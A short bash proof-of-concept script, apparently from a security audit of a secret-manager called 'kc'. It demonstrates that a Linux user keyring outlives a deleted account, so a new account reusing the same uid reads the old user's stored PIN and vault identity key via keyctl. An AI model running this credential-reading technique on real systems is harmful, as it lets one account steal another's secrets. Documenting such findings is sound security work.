#!/usr/bin/env bash
# Finding (careless admin): a user keyring outlives its user (Linux >= 5.3, until
# reboot), and kc keeps there the vault's unsealed identity ("kc.vault:PATH", the key
# that opens every vault file) and every after-first-unlock item. userdel does not
# clear it; the next account given the same uid (useradd picks the lowest free uid)
# owns all of it: it reads the old user's items and the old vault's identity.
source "$(dirname "$0")/common.sh"
U=kc-atk-old; N=kc-atk-new
mkuser $U 'Old-pw-1'; uid=$(id -u $U)
su - $U -c "printf '%s\n' Old-pw-1 | $KC vault init --work-factor 10 2>/dev/null; echo -n old-users-secret | $KC set bank pin --access after-first-unlock"
userdel -r $U 2>/dev/null
useradd -m -u $uid -s /bin/bash $N
echo "new account $N got uid $(id -u $N) (the old one's: $uid)"
su - $N -c "keyctl session - bash -c 'keyctl link @u @s >/dev/null
  keyctl show @u | sed -n 2,20p
  echo \"item of the deleted user: \$(keyctl print \$(keyctl search @u user pin) 2>&1)\"
  echo \"vault identity of the deleted user: \$(keyctl print \$(keyctl search @u user kc.vault:/home/$U/.local/share/kc) 2>&1 | head -c 40)...\"'" 2>&1 | grep -v '^Joined'
su - $N -c "keyctl clear @u"; userdel -r $N 2>/dev/null
